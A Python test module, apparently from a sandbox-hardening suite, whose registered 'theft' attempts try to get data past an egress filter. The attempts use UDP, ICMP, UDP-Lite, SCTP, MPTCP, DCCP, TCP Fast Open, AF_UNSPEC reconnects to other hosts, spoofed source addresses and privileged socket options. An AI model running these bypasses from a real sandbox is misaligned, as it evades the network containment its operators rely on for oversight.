"""Ways that are not TCP to an allowed port: other protocols, other ports, tricks with connect(2)."""

from __future__ import annotations

import ctypes
import errno
import os
import socket
import struct
from typing import Any

from ..loot import Apart, Attempt, World
from ..wires import WEB, acting, by_name, call, datagram, hear
from .addresses import rule, web

MISSING = (errno.EPROTONOSUPPORT, errno.ESOCKTNOSUPPORT, errno.EAFNOSUPPORT, errno.ENOPROTOOPT)
PUBLIC, PRIVATE = "93.184.215.14", "10.1.2.3"
IPPROTO_SCTP, IPPROTO_UDPLITE, IPPROTO_DCCP, IPPROTO_MPTCP = 132, 136, 33, 262
MSG_FASTOPEN, TCP_FASTOPEN_CONNECT, TCP_REPAIR, TCP_ULP = 0x2000_0000, 30, 19, 31

DATAGRAMS = Attempt("37", "QUIC, ICMP, any other UDP", "network namespace", "gateway", web)
for _address, _port in (
    (PUBLIC, 443), (PUBLIC, 9999), ("8.8.8.8", 123), (PRIVATE, 161), ("169.254.169.254", 123), ("127.0.0.1", 9999),
    ("::1", 9999), ("2606:2800:21f::14", 443),
):  # fmt: skip
    DATAGRAMS.theft(f"UDP to {_address} port {_port}")(acting(datagram, _address, _port))


@DATAGRAMS.theft("UDP to an allowed name")
def allowed_datagram(world: World) -> str:
    address = socket.getaddrinfo("allowed.test", 443, socket.AF_INET, socket.SOCK_DGRAM)[0][4][0]
    return datagram(str(address), 443)


@DATAGRAMS.theft("ICMP echo")
def echo(world: World) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as way:
        way.settimeout(2)
        way.sendto(struct.pack(">BBHHH", 8, 0, 0, 1, 1) + b"loot", ("8.8.8.8", 0))
        return f"an answer of {len(way.recv(100))} bytes"


def _present(family: int, kind: int, protocol: int, world: World) -> socket.socket:
    """A socket of a protocol that this kernel may not have."""
    try:
        return socket.socket(family, kind, protocol)
    except OSError as refused:
        if not world["caged"] and refused.errno in MISSING:
            raise Apart(f"this kernel has no such protocol: {refused.strerror}") from refused
        raise


@DATAGRAMS.theft("UDP-Lite")
def udplite(world: World) -> str:
    with _present(socket.AF_INET, socket.SOCK_DGRAM, IPPROTO_UDPLITE, world) as way:
        sent = way.sendto(b"loot", (PUBLIC, 443))
        return f"{sent} bytes are under way"


@DATAGRAMS.theft("a datagram from an address of somebody else's")
def spoofed(world: World) -> str:
    """All addresses are local, so any can be a source; the answer comes to it all the same."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
        way.settimeout(2)
        way.bind(("8.8.8.8", 0))
        way.sendto(b"loot", (PUBLIC, 443))
        return way.recv(200).decode("latin-1")


STREAMS = Attempt("39", "MPTCP, SCTP, DCCP, TCP Fast Open, AF_UNSPEC reconnect", "seccomp", "gateway", web)
for _name, _kind, _protocol in (
    ("MPTCP", socket.SOCK_STREAM, IPPROTO_MPTCP),
    ("SCTP", socket.SOCK_STREAM, IPPROTO_SCTP),
    ("SCTP, many to one", socket.SOCK_SEQPACKET, IPPROTO_SCTP),
    ("DCCP", 6, IPPROTO_DCCP),
):

    @STREAMS.theft(_name)
    def stream(world: World, kind: int = _kind, protocol: int = _protocol) -> str:
        with _present(socket.AF_INET, kind, protocol, world) as way:
            way.settimeout(4)
            way.connect((PUBLIC, 443))
            way.sendall(WEB)
            return hear(way)


@STREAMS.theft("data in the first packet")
def fast_open(world: World) -> str:
    with socket.socket() as way:
        # Blocking: else the kernel sends no data along and says that it is connecting.
        way.sendto(WEB, MSG_FASTOPEN, (PRIVATE, 80))
        return hear(way)


@STREAMS.theft("data in the first packet, by an option")
def fast_open_connect(world: World) -> str:
    with socket.socket() as way:
        way.settimeout(4)
        way.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
        way.connect((PRIVATE, 80))
        way.sendall(WEB)
        return hear(way)


@STREAMS.theft("disconnect and connect elsewhere")
def reconnect(world: World) -> str:
    """A socket that was let through once is pointed at another host."""
    with socket.create_connection(("allowed.test", 80), 8) as way:
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.connect(way.fileno(), bytes(16), 16) != 0:
            raise OSError(ctypes.get_errno(), "AF_UNSPEC")
        way.connect((PRIVATE, 80))
        way.sendall(WEB)
        return hear(way)


@STREAMS.theft("disconnect, and to another port of the same host")
def reconnect_port(world: World) -> str:
    with socket.create_connection(("allowed.test", 80), 8) as way:
        peer = way.getpeername()[0]
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.connect(way.fileno(), bytes(16), 16) != 0:
            raise OSError(ctypes.get_errno(), "AF_UNSPEC")
        way.connect((peer, 8080))
        way.sendall(WEB)
        return hear(way)


def two(world: World) -> dict[str, Any]:
    """Two hosts with a port each: both ports listen."""
    return {"egress": [rule("allowed.test", 80), rule("db.test", 5432)]}


PORTS = Attempt("40", "an allowed host, another port", "gateway", "network namespace", two)
for _name, _port in (("allowed.test", 5432), ("db.test", 80), ("allowed.test", 8080), ("allowed.test", 22)):
    PORTS.theft(f"{_name}:{_port}")(acting(by_name, _name, _port))
PORTS.theft("its true address")(acting(call, PUBLIC, 80))


SOURCES = Attempt("C4", "socket options that change source, device or route", "seccomp", "gateway", web)
SO_BINDTODEVICE, SO_MARK, IP_TRANSPARENT, IP_FREEBIND, IP_HDRINCL, IP_OPTIONS = 25, 36, 19, 15, 3, 4
SO_ATTACH_FILTER = 26
TAKE_ALL = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0xFFFF))
FILTER = struct.pack("HxxxxxxQ", 1, ctypes.addressof(TAKE_ALL))
LOOSE_ROUTE = bytes([131, 7, 4]) + socket.inet_aton(PRIVATE) + b"\0"
for _name, _level, _option, _value, _root in (
    ("SO_BINDTODEVICE", socket.SOL_SOCKET, SO_BINDTODEVICE, b"lo\0", False),
    ("SO_MARK", socket.SOL_SOCKET, SO_MARK, struct.pack("i", 7), True),
    ("IP_TRANSPARENT", socket.IPPROTO_IP, IP_TRANSPARENT, struct.pack("i", 1), True),
    ("IP_FREEBIND", socket.IPPROTO_IP, IP_FREEBIND, struct.pack("i", 1), False),
    ("a source route", socket.IPPROTO_IP, IP_OPTIONS, LOOSE_ROUTE, True),
    ("TCP_REPAIR", socket.IPPROTO_TCP, TCP_REPAIR, struct.pack("i", 1), True),
    ("a packet filter", socket.SOL_SOCKET, SO_ATTACH_FILTER, FILTER, True),
):

    @SOURCES.theft(_name, needs_root=_root)
    def option(world: World, level: int = _level, name: int = _option, value: bytes = _value) -> str:
        with socket.socket() as way:
            try:
                way.setsockopt(level, name, value)
            except OSError as refused:
                if refused.errno == errno.EINVAL and not world["caged"]:
                    # The kernel looked at the value: the filter would not have let it.
                    return "the kernel looked"
                raise
            return f"set as {os.geteuid()}"
